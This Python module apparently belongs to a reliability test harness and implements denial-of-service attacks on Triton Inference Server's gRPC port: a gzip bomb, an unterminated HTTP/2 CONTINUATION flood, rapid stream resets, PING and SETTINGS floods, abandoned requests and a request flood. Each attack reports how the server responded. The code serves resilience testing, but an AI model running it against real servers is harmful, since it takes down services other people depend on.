"""Attacks on Triton's gRPC port: bombs, frames and floods.

Each takes a siege and returns how often it was answered in which way.
"""

from __future__ import annotations

import time
from collections import Counter

import grpc
from tritonclient.grpc import service_pb2 as pb
from tritonclient.grpc import service_pb2_grpc as rpc

from bench.servers import statistics
from reliability import http2
from reliability.attacks_http import packed
from reliability.http2 import END_HEADERS, Connection, frame
from reliability.siege import Siege

_STEPS = 10  # of a request that is to take time
_PATIENCE = 1.0  # seconds for the server to take what is sent, or to close


def bomb(siege: Siege) -> Counter[str]:
    """Return a mask of `amount` MB, compressed by gzip as gRPC allows."""
    head = pb.ModelInferRequest(model_name="mini")
    head.inputs.add(name="mask", datatype="UINT8", shape=[siege.amount << 20, 1, 1])
    length, varint = siege.amount << 20, b""
    while length >= 128:
        varint += bytes([length % 128 + 128])
        length //= 128
    # The field raw_input_contents of KServe's message has the number 7 and a length.
    start = head.SerializeToString() + bytes([7 << 3 | 2]) + varint + bytes([length])
    message = packed(siege.amount, "gzip", start)
    connection = Connection(siege.server.grpc)
    try:
        connection.call(1, message, b"gzip")
        return Counter([connection.answer(1)])
    except OSError:
        return Counter(["closed"])
    finally:
        connection.close()


def endless_head(siege: Siege) -> Counter[str]:
    """Headers of `amount` MB, in CONTINUATION frames whose last does not come."""
    block = http2.header(b"x-header", b"y" * 16000)
    return _send(
        siege,
        frame(http2.HEADERS, 0, 1, http2.grpc_headers()),
        [frame(http2.CONTINUATION, 0, 1, block)] * (siege.amount * 64),
    )


def resets(siege: Siege) -> Counter[str]:
    """`amount` streams, each opened and reset at once."""
    block = http2.grpc_headers()
    streams = range(1, 2 * siege.amount, 2)
    parts = [
        frame(http2.HEADERS, END_HEADERS, stream, block)
        + frame(http2.RESET, 0, stream, (8).to_bytes(4, "big"))
        for stream in streams
    ]
    return _send(siege, b"", parts)


def pings(siege: Siege) -> Counter[str]:
    """`amount` pings."""
    return _send(siege, b"", [frame(http2.PING, 0, 0, bytes(8))] * siege.amount)


def settings(siege: Siege) -> Counter[str]:
    """`amount` frames of settings, each of which asks for an acknowledgement."""
    return _send(siege, b"", [frame(http2.SETTINGS, 0, 0)] * siege.amount)


def _send(siege: Siege, first: bytes, parts: list[bytes]) -> Counter[str]:
    """Send frames without reading what comes; say whether the server closed the connection."""
    connection = Connection(siege.server.grpc)
    sent = 0
    try:
        connection.socket.settimeout(_PATIENCE)
        connection.socket.sendall(first)
        for at in range(0, len(parts), 100):
            connection.socket.sendall(b"".join(parts[at : at + 100]))
            sent += len(parts[at : at + 100])
        siege.hold()
        outcome = connection.answer(0)
    except TimeoutError:
        outcome = "kept waiting"
    except OSError:
        outcome = "closed"
    finally:
        connection.close()
    return Counter({"frames sent": sent, outcome: 1})


def _request() -> pb.ModelInferRequest:
    request = pb.ModelInferRequest(model_name="mini")
    for name, values in (("size", [32, 32, 32]), ("steps", [_STEPS])):
        contents = pb.InferTensorContents(int_contents=values)
        request.inputs.add(name=name, datatype="INT32", shape=[len(values)], contents=contents)
    return request


def leave(siege: Siege) -> Counter[str]:
    """`amount` requests for a volume, whose client leaves while they run and wait.

    The ensemble's own counts say what was done for nobody; only attackers ask the ensemble.
    """
    message, before = _request().SerializeToString(), statistics(siege.server.grpc)["mini"]
    connections = [Connection(siege.server.grpc) for _ in range(siege.amount)]
    for connection in connections:
        connection.call(1, message)
    siege.hold()
    for connection in connections:
        connection.close()
    deadline, count = time.monotonic() + http2.LONGEST, 0
    while count < siege.amount and time.monotonic() < deadline:
        time.sleep(0.1)
        counts = statistics(siege.server.grpc)["mini"].since(before)
        count = counts.answered + counts.failed
    return Counter({"done for nobody": counts.answered, "not done": siege.amount - counts.answered})


def flood(siege: Siege) -> Counter[str]:
    """`amount` requests for a volume at once."""
    with grpc.insecure_channel(siege.server.grpc) as channel:
        infer = rpc.GRPCInferenceServiceStub(channel).ModelInfer
        calls = [infer.future(_request(), timeout=http2.LONGEST) for _ in range(siege.amount)]
        return Counter(call.code().name for call in calls)
